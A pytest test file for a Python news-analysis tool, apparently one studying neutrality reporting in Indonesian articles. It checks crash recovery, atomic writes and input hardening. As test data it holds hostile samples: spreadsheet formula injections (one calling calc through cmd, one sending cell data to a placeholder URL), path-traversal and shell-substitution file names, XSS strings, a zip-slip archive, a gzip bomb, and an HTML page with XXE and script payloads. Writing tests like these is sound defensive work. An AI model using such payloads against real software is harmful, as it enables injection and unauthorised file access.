"""Bad input, interruptions, hostile words: what the soak found stays mended, files are whole, nothing is run, fetched or left outside."""
import csv
import gzip
import json
import os
import signal
import socket
import subprocess
import sys
import time
import zipfile

import pandas as pd
import pytest
from conftest import ROOT, cases
from hypothesis import given, settings
from hypothesis import strategies as st

import growth
import soak
from netralitas import TABLES, analyse, analyse_text, read_articles, read_tables, write_tables
from netralitas.__main__ import main
from netralitas.canvas import canvas, finish, save_figure
from netralitas.files import plain_cell, safe_cells, write_all, write_whole
from netralitas.pipeline import TablesError
from netralitas.reader import article_page

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1)', "+62 812", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
            "＝1+1", "＋1", "－1", "＠a", "'=1+1", "''-2", "-", "="]
PLAIN = ["netral", "", "a=1", "'netral'", "“Kami", "1-2", "(+)", "–5"]
TEXT = "Bawaslu mengimbau ASN netral pada Rabu, 31 Juli 2024, kata Wayan Rukmini di kantor itu.\n"


# What the soak has found. More of it: make soak


@pytest.mark.parametrize("case", cases("soak"), ids=lambda case: case["fault"])
def test_a_text_that_once_failed_is_read(case):
    assert soak.fault(json.loads(case["text"])) is None


@pytest.mark.parametrize("n", range(0, 3000, 10))
def test_generated_articles_keep_the_laws(n):
    assert soak.fault(soak.generated(n)) is None


def test_the_soak_sees_broken_laws():
    layers = soak.annotate(soak.article_of(TEXT), soak.LEXICONS)
    assert soak.laws(layers) == [] and layers["mentions"]
    for name in ("tokens", "mentions", "dates", "quotes", "messages"):
        moved = [row._replace(start=row.start - 1) for row in layers[name]]
        assert not moved or soak.laws(layers | {name: moved}), name
    assert soak.laws(layers | {"blocks": layers["blocks"][1:]}) and soak.laws(layers | {"mentions": layers["mentions"] * 2})


def test_inputs_are_the_same_every_time_and_of_every_kind():
    made = [soak.generated(n) for n in range(300)]
    assert made == [soak.generated(n) for n in range(300)] and len(set(made)) > 280
    everything = "".join(made)
    assert all(mark in everything for mark in ("\0", "\u202e", "🗳", "\u0301", "“", "\n", "محايد"))
    assert any("\ud800" <= c <= "\udfff" for c in everything)


# Growth: measured by tools/growth.py; here only that nothing runs away.


@pytest.mark.parametrize("name", ["straight quotation marks", "quoted without end", "opening marks", "nested brackets", "titles", "digits",
                                  "slashes", "clitics", "names in capitals", "laws", "hats", "initials", "addresses", "lines"])
def test_eight_times_the_text_takes_no_fifty_times_as_long(name):
    few, *_, many = growth.sizes(name, 0.25)
    one, two = growth.timed(few, 20, "sentences"), growth.timed(many + many, 20, "sentences")
    assert all(seconds < 50 * max(one[stage], 0.02) for stage, seconds in two.items()) and len(two) == 6


# Files: whole at any moment, and an error says what to do.


def test_a_run_that_is_killed_leaves_whole_tables_of_one_run(tmp_path):
    out = tmp_path / "tables"
    code = ("import sys, netralitas as nt\n"
            "t = nt.analyse_text(sys.argv[2] + 'Rapat itu sudah usai. ' * int(sys.argv[3])); nt.write_tables(t, sys.argv[1])\n"
            "print(1, flush=True)\n"
            "while True: nt.write_tables(t, sys.argv[1])")
    sizes = set()
    for run in range(4):
        child = subprocess.Popen([sys.executable, "-c", code, out, TEXT, str(run + 1)], stdout=subprocess.PIPE)
        child.stdout.readline()
        time.sleep(0.013 * run)
        child.send_signal(signal.SIGKILL)
        child.wait()
        tables = read_tables(out)
        assert tables.articles["n_tokens"].iloc[0] == len(tables.tokens)
        sizes.add(len(tables.tokens))
    assert len(sizes) == 4
    write_tables(analyse_text(TEXT), out)
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{name}.parquet" for name in TABLES)


def test_an_error_in_mid_write_leaves_what_was_there(tmp_path):
    paths = [tmp_path / name for name in "ab"]
    write_all(paths, lambda path, beside: beside.write_text("old"))

    def fail(path, beside):
        beside.write_text("new")
        if path.name == "b":
            raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space"):
        write_all(paths, fail)
    assert [p.read_text() for p in sorted(tmp_path.iterdir())] == ["old", "old"]


@pytest.mark.skipif(not hasattr(signal, "SIGXFSZ"), reason="no limit of the size of a file here")
@pytest.mark.parametrize("arguments", [["annotate", "in", "--out", "out"], ["annotate", "in", "--out", "out", "--format", "csv"],
                                       ["read", "--all", "--corpus", "in", "--out", "out"]])
def test_no_space_is_said_and_the_old_files_stay(tmp_path, arguments):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text(TEXT * 40)
    where = {"cwd": tmp_path, "capture_output": True, "text": True}
    assert subprocess.run([sys.executable, "-m", "netralitas", *arguments], **where).returncode == 0
    before = {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()}
    (tmp_path / "in" / "b.txt").write_text(TEXT * 80)
    limited = "import resource, sys; resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096)); sys.argv[0] = 'netralitas'; " \
              "from netralitas.__main__ import main; sys.exit(main(sys.argv[1:]))"
    told = subprocess.run([sys.executable, "-B", "-c", limited, *arguments], **where)
    assert told.returncode == 2 and "--out" in told.stderr and "Traceback" not in told.stderr and told.stderr.count("\n") < 5
    assert {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()} == before


def test_an_output_that_may_not_be_written_is_said(tmp_path, monkeypatch, capsys):
    (tmp_path / "a.txt").write_text(TEXT)
    monkeypatch.setattr(os, "replace", _refuse)
    for arguments in (["annotate", str(tmp_path), "--out", str(tmp_path / "t")],
                      ["read", "a", "--corpus", str(tmp_path), "--out", str(tmp_path / "a.html")]):
        assert main([*arguments, "--quiet"]) == 2
        assert "Read-only file system" in (said := capsys.readouterr().err) and "--out" in said


def _refuse(beside, path):
    raise OSError(30, "Read-only file system", str(path))


def test_a_damaged_table_is_said_with_what_to_do(tmp_path):
    write_tables(analyse_text(TEXT), tmp_path)
    whole = (tmp_path / "quotes.parquet").read_bytes()
    for raw in (b"", whole[: len(whole) // 2], b"no table"):
        (tmp_path / "quotes.parquet").write_bytes(raw)
        with pytest.raises(TablesError, match="quotes.parquet: damaged.*run `netralitas annotate` again"):
            read_tables(tmp_path)


def test_who_stops_it_gets_one_line(tmp_path, monkeypatch, capsys):
    (tmp_path / "a.txt").write_text(TEXT)
    monkeypatch.setattr("netralitas.pipeline.annotate", _stop)
    assert main(["annotate", str(tmp_path), "--out", str(tmp_path / "t"), "--quiet"]) == 130
    assert "stopped" in capsys.readouterr().err and not list(tmp_path.rglob("*.part"))


def _stop(*_):
    raise KeyboardInterrupt


# Cells: no text of an article is a formula in a spreadsheet, and Parquet is exact.


@pytest.mark.parametrize("words", FORMULAS)
def test_a_formula_is_marked_as_text(words):
    [cell] = safe_cells(pd.DataFrame({"a": [words]}))["a"]
    assert cell == f"'{words}" and plain_cell(cell) == words


@pytest.mark.parametrize("words", PLAIN)
def test_other_words_stay(words):
    assert safe_cells(pd.DataFrame({"a": [words]}))["a"].tolist() == [words] and plain_cell(words) == words


@settings(max_examples=200)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\n a1＝"), max_size=6) | st.text(max_size=5))
def test_a_cell_comes_back_as_it_was(words):
    [cell] = safe_cells(pd.DataFrame({"a": [words]}, dtype="str"))["a"]
    assert plain_cell(cell) == words and cell in (words, f"'{words}")


def test_numbers_missing_values_and_the_frame_itself_stay():
    frame = pd.DataFrame({"=a": [-1, 2], "b": [-0.5, None], "c": ["-x", None], "d": pd.Categorical(["@x", "y"])})
    assert safe_cells(frame).to_csv(index=False) == "'=a,b,c,d\n-1,-0.5,'-x,'@x\n2,,,y\n"
    assert frame["c"][0] == "-x" and list(frame) == ["=a", "b", "c", "d"]


def test_no_csv_file_holds_a_formula_and_parquet_holds_the_text(tmp_path):
    text = f"=HYPERLINK(1) {TEXT}@camat netral.\n-Wayan hadir."
    tables = analyse_text(text, "=1+1")
    tables = tables._replace(articles=tables.articles.assign(outlet="@x", title="+x", byline="-2+3", url="\t=1"))
    for form in ("csv", "parquet"):
        write_tables(tables, tmp_path, form)
    assert read_tables(tmp_path).articles["text"].tolist() == [text]
    save_figure(finish(canvas(1, 1)[0], pd.DataFrame({"outlet": ["=1+1"], "n": [-1]}), "caption", []), "f", tmp_path)
    for path in tmp_path.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [c for c in cells if c[:1] in "=+-@\t\r\n" and c and not c[1:].isdigit()], path.name
    [row] = pd.read_csv(tmp_path / "articles.csv").itertuples()
    assert plain_cell(row.text) == text and plain_cell(row.outlet) == "@x"


# Names: whatever files and rows are called, nothing is written outside --out.

NAMES = ["..", "../../x", "/etc/x", "a/../../b", "C:\\x", "con", "\0", "%2e%2e%2fx", "<img src=x onerror=alert(1)>", "=1+1", "x" * 300,
         "\u202etxt"]


def test_hostile_ids_and_file_names_stay_inside(tmp_path, capsys):
    inside, out = tmp_path / "in", tmp_path / "deep" / "out"
    inside.mkdir()
    with (inside / "=..%2f..%2fx <b>.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["id", "isi"], *([name, f"{TEXT}{n}"] for n, name in enumerate(NAMES))])
    (inside / "-rf $(touch y) `touch z`; .txt").write_text(TEXT)
    assert main(["annotate", str(inside), "--out", str(out / "t"), "--quiet", "--conllu", str(out / "t" / "words.conllu")]) == 0
    assert main(["read", "--all", "--corpus", str(inside), "--out", str(out / "site"), "--quiet"]) == 0
    assert {p.parent for p in tmp_path.rglob("*") if p.is_file()} == {inside, out / "t", out / "site"}
    assert len(list((out / "site").glob("article-*.html"))) == len(NAMES) + 1


# Archives: no reader opens them, so nothing is unpacked.


def test_archives_are_not_opened(tmp_path):
    (tmp_path / "a.txt").write_text(TEXT)
    with zipfile.ZipFile(tmp_path / "b.zip", "w") as archive:
        archive.writestr("../../evil.txt", TEXT)
    for name in ("c.csv", "d.txt", "e.jsonl"):
        (tmp_path / name).write_bytes(gzip.compress(b"isi\n" + b"0" * 10_000_000))
    (tmp_path / "f.txt").write_bytes((tmp_path / "b.zip").read_bytes())
    before = sorted(tmp_path.rglob("*"))
    articles = read_articles([tmp_path, tmp_path / "b.zip"])
    assert {a.article_id: a.status for a in articles} == {
        "a": "ok", "c": "binary file", "d": "binary file", "e": "binary file", "f": "binary file",
        "b": "a .zip file is not read: save it as .txt, .html or .csv"}
    assert sorted(tmp_path.rglob("*")) == before


# HTML: nothing asked for, no script kept.

PAGE = """<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hostname"> <!ENTITY a "bom"><!ENTITY b "&a;&a;&a;&a;">]>
<html><head><base href="http://127.0.0.1:9/"><meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/"><title>Apel</title>
<link rel="stylesheet" href="http://127.0.0.1:9/a.css"><script src="http://127.0.0.1:9/a.js">rahasia1()</script></head>
<body onload="rahasia2()"><img src="http://127.0.0.1:9/a.png" onerror="rahasia3()"><iframe src="http://127.0.0.1:9/"></iframe>
<svg><script>rahasia4()</script></svg><style>@import "http://127.0.0.1:9/rahasia5.css"</style><p>{text}</p><p>{text} &x; &b;</p>
<a href="javascript:rahasia6()">tautan</a><noscript><img src="rahasia7"></noscript></body></html>"""


@pytest.mark.parametrize("page", [PAGE.replace("{text}", TEXT), "http://127.0.0.1:9/apel-asn", f"<p>{TEXT}</p><script>rahasia()"])
def test_a_page_asks_for_nothing_and_no_script_is_kept(tmp_path, monkeypatch, page):
    asked = []
    monkeypatch.setattr(socket.socket, "connect", lambda self, address: asked.append(address))
    monkeypatch.setattr(socket, "getaddrinfo", lambda *args, **kw: asked.append(args) or [])
    (tmp_path / "a.html").write_text(page)
    [article] = read_articles(tmp_path)
    tables = analyse(tmp_path)
    assert not asked and "rahasia" not in article.text and "bombom" not in article.text
    assert "<script" not in article.text and "rahasia" not in article_page(tables, "a")


# Notebooks: pandas escapes what a table shows, and nothing of ours switches that off.


def test_a_frame_in_a_notebook_shows_markup_as_text(teaching):
    shown = teaching.articles.head(1).assign(title="<img src=x onerror=alert(1)>")._repr_html_()
    assert "<img" not in shown and "&lt;img" in shown
    sources = [*(ROOT / "src").rglob("*.py"), *(ROOT / "notebooks").glob("*.ipynb"), *(ROOT / "tools").glob("*.py")]
    assert not [p.name for p in sources if "escape=False" in p.read_text(encoding="utf-8")]


def test_a_file_is_written_whole(tmp_path):
    write_whole(tmp_path / "a", lambda beside: beside.write_text("x"))
    assert [p.name for p in tmp_path.iterdir()] == ["a"]
